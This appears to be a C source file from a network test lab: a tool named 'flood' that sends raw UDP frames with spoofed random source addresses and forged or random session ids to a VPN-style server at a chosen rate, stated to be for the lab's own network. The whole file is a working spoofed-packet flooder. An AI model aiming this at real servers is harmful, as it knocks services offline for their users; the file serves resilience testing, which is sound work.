/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * flood: forged messages of a client, from random addresses, under random or one session id, at a chosen rate.
 *
 * It owns one packet socket on one interface and sends whole frames, so that no kernel's routes or NAT have a say.
 * It refuses to know any key: what follows the header is random. Only for a network of the lab's own.
 * Read next: lab/scenarios/attacks_flood.py, which looks at who suffers.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <sys/socket.h>

#define NS_PER_S INT64_C(1000000000)
#define BATCH 32
#define LATE_NS (NS_PER_S / 20)
#define MESSAGE_BYTES 144 /* PROBE, REATTACH_REQUEST and REATTACH_PROOF are alike */
#define ENVELOPE_BYTES 64 /* at most */
#define IP_AT 14
#define UDP_AT 34
#define ENVELOPE_AT 42
#define FRAME_BYTES (ENVELOPE_AT + ENVELOPE_BYTES + MESSAGE_BYTES)
#define SESSION_BYTES 16

/* What the host's protocol has before each message; of OpenVPN, unless another one is given. */
static unsigned char envelope[ENVELOPE_BYTES] = { 0xf8 };
static size_t envelope_bytes = 1;
static size_t id_also_at; /* where the session id stands in the envelope too; 0: nowhere */

static uint64_t state = 88172645463325252u;

/* xorshift: quick, and nothing here is a secret. */
static uint64_t random64(void)
{
	state ^= state << 13;
	state ^= state >> 7;
	state ^= state << 17;
	return state;
}

static int64_t now_ns(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec * NS_PER_S + t.tv_nsec;
}

static void die(const char *what)
{
	fprintf(stderr, "flood: %s: %s\n", what, strerror(errno));
	exit(1);
}

static void put16(unsigned char *at, unsigned value)
{
	at[0] = (unsigned char)(value >> 8);
	at[1] = (unsigned char)value;
}

static void put_ip_checksum(unsigned char *ip)
{
	uint32_t sum = 0;

	put16(ip + 10, 0);
	for (int i = 0; i < 20; i += 2)
		sum += (uint32_t)ip[i] << 8 | ip[i + 1];
	sum = (sum & 0xffff) + (sum >> 16);
	sum = (sum & 0xffff) + (sum >> 16);
	put16(ip + 10, ~sum & 0xffff);
}

static void put_frame(unsigned char *f, const unsigned char *to_mac, struct in_addr to, unsigned port,
		      const char *types, uint32_t first_source, uint32_t sources, const unsigned char *session)
{
	uint32_t source = htonl(first_source + (uint32_t)(random64() % sources));
	unsigned type = (unsigned)(types[random64() % strlen(types)] - '0');
	unsigned char *message = f + ENVELOPE_AT + envelope_bytes;

	memcpy(f + ENVELOPE_AT, envelope, envelope_bytes);
	for (int i = 0; i < MESSAGE_BYTES; i += 8) {
		uint64_t some = random64();

		memcpy(message + i, &some, sizeof(some));
	}
	memcpy(f, to_mac, 6);
	memcpy(f + 6, "\2\0\0\0\0\x66\x08\0", 8);
	memcpy(f + IP_AT, "\x45\0\0\0\0\0\0\0\x40\x11", 10);
	put16(f + IP_AT + 2, (unsigned)(ENVELOPE_AT - IP_AT + envelope_bytes + MESSAGE_BYTES));
	memcpy(f + IP_AT + 12, &source, 4);
	memcpy(f + IP_AT + 16, &to, 4);
	put_ip_checksum(f + IP_AT);
	put16(f + UDP_AT, 1024 + (unsigned)(random64() % 60000));
	put16(f + UDP_AT + 2, port);
	put16(f + UDP_AT + 4, (unsigned)(8 + envelope_bytes + MESSAGE_BYTES));
	put16(f + UDP_AT + 6, 0); /* no checksum */
	message[0] = (unsigned char)(0x10 | type);
	message[1] = 0;
	if (session)
		memcpy(message + 4, session, SESSION_BYTES);
	memset(message + 4 + SESSION_BYTES + 24, 0, 16); /* no cookie */
	if (id_also_at)
		memcpy(f + ENVELOPE_AT + id_also_at, message + 4, SESSION_BYTES);
}

static void read_hex(unsigned char *out, size_t bytes, const char *text, const char *separator)
{
	for (size_t i = 0; i < bytes; i++) {
		char *end;
		char pair[3] = { text[0], text[0] ? text[1] : '\0', '\0' };

		out[i] = (unsigned char)strtoul(pair, &end, 16);
		if (end != pair + 2) {
			errno = EINVAL;
			die(text);
		}
		text += 2;
		if (i + 1 < bytes && *separator && *text++ != *separator) {
			errno = EINVAL;
			die("separator");
		}
	}
}

int main(int argc, char **argv)
{
	static unsigned char frames[BATCH][FRAME_BYTES];
	static struct mmsghdr messages[BATCH];
	static struct iovec parts[BATCH];
	struct sockaddr_ll address = { .sll_family = AF_PACKET };
	unsigned char mac[6], session[SESSION_BYTES];
	struct in_addr to, first;
	const char *types = argc > 12 ? argv[12] : "368";
	uint64_t count, sent = 0, refused = 0;
	int64_t began;
	bool named;
	double rate;
	int fd;

	if (argc < 9 || argc > 13) {
		fprintf(stderr, "usage: flood INTERFACE MAC ADDRESS PORT FIRST_SOURCE SOURCES COUNT RATE [SESSION_ID [ENVELOPE [ID_AT [TYPES]]]]\n"
				"RATE: frames a second; 0: as many as go.\n"
				"SESSION_ID: '-' for random ones. ENVELOPE: what stands before each message, in hex (f8).\n"
				"ID_AT: where in the envelope the session id stands as well; 0: nowhere.\n"
				"TYPES: by lot, a digit each (368: PROBE, REQUEST and PROOF).\n");
		return 2;
	}
	fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);
	address.sll_ifindex = (int)if_nametoindex(argv[1]);
	if (fd < 0 || address.sll_ifindex == 0 || bind(fd, (struct sockaddr *)&address, sizeof(address)))
		die(argv[1]);
	read_hex(mac, sizeof(mac), argv[2], ":");
	if (inet_pton(AF_INET, argv[3], &to) != 1 || inet_pton(AF_INET, argv[5], &first) != 1) {
		errno = EINVAL;
		die("address");
	}
	count = strtoull(argv[7], NULL, 10);
	rate = strtod(argv[8], NULL);
	named = argc > 9 && strcmp(argv[9], "-") != 0;
	if (named)
		read_hex(session, sizeof(session), argv[9], "");
	if (argc > 10) {
		envelope_bytes = strlen(argv[10]) / 2;
		if (envelope_bytes > ENVELOPE_BYTES) {
			errno = EINVAL;
			die("envelope");
		}
		read_hex(envelope, envelope_bytes, argv[10], "");
	}
	id_also_at = argc > 11 ? strtoul(argv[11], NULL, 10) : 0;
	if (id_also_at && id_also_at + SESSION_BYTES > envelope_bytes) {
		errno = EINVAL;
		die(argv[11]);
	}
	if (strspn(types, "0123456789") != strlen(types) || !*types) {
		errno = EINVAL;
		die("types");
	}
	state ^= (uint64_t)now_ns();
	for (int i = 0; i < BATCH; i++) {
		parts[i] = (struct iovec){ frames[i], ENVELOPE_AT + envelope_bytes + MESSAGE_BYTES };
		messages[i].msg_hdr = (struct msghdr){ .msg_iov = &parts[i], .msg_iovlen = 1 };
	}
	began = now_ns();
	while (sent + refused < count) {
		int n;

		for (int i = 0; i < BATCH; i++)
			put_frame(frames[i], mac, to, (unsigned)atoi(argv[4]), types, ntohl(first.s_addr),
				  (uint32_t)strtoul(argv[6], NULL, 10), named ? session : NULL);
		n = sendmmsg(fd, messages, BATCH, 0);
		if (n < 0 && errno != ENOBUFS && errno != EAGAIN)
			die("sendmmsg");
		sent += n > 0 ? (uint64_t)n : 0;
		refused += BATCH - (n > 0 ? (uint64_t)n : 0);
		if (rate > 0) {
			int64_t due = began + (int64_t)((double)(sent + refused) / rate * NS_PER_S);
			struct timespec until = { due / NS_PER_S, due % NS_PER_S };

			if (now_ns() - due > LATE_NS) /* it was stopped: what it missed is not made good */
				began += now_ns() - due;
			clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &until, NULL);
		}
	}
	printf("sent %llu refused %llu ns %lld\n", (unsigned long long)sent, (unsigned long long)refused,
	       (long long)(now_ns() - began));
	return 0;
}
